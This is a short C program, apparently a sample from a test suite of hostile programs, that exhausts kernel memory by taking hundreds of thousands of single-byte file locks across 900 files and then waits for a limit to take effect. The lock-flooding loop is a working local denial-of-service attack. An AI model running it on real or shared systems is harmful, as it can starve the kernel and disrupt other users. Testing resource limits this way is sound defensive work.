// Has the kernel remember many locks, each of one byte of a file.
#include "hostile.h"

static void attack(void) {
    unsigned long locks = 0;
    for (int number = 0; number < 900; number++) {
        char name[16];
        snprintf(name, sizeof name, "lock%d", number);
        int file = open(name, O_RDWR | O_CREAT, 0644);
        for (long at = 0; file >= 0 && at < 1000; at++) {
            struct flock lock = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * at, .l_len = 1};
            if (fcntl(file, 37 /* F_OFD_SETLK */, &lock) != 0) return;
            locks++;
        }
    }
    if (locks >= 400000) wait_for_the_limit();
}
